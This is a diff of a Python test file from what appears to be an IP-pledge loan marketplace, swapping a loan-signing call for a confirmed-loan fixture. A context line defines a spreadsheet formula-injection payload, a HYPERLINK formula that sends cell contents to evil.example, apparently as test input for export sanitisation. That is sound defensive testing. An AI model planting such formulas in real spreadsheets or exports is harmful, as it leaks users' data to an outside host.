@@ -13,7 +13,6 @@ from openpyxl import load_workbook
 
 from market.accounts.models import OrgKind, Role
 from market.ip.models import IpAsset, IpKind, LegalStatus, PledgeState
-from market.loans import service as loans
 from tests.conftest import NOW
 
 HOSTILE = '=HYPERLINK("http://evil.example/?d="&A1,"详情")'
@@ -28,9 +27,11 @@ def hostile_bank(session, factory):
                     created_at=NOW, updated_at=NOW)
     session.add(asset)
     session.flush()
-    loans.sign_loan(session, bank, enterprise_org_id=enterprise.id, principal=Decimal("1234567.89"),
-                    annual_rate=Decimal("0.0500"), term_months=12, asset_ids=[asset.id], signed_on=date(2016, 5, 1),
-                    now=NOW, registration_number="X2016500000777")
+    from tests.loans.conftest import confirmed_loan
+
+    confirmed_loan(session, bank, enterprise, principal=Decimal("1234567.89"), annual_rate=Decimal("0.0500"),
+                   term_months=12, asset_ids=[asset.id], signed_on=date(2016, 5, 1), now=NOW,
+                   registration_number="X2016500000777")
     session.commit()
     return bank
 
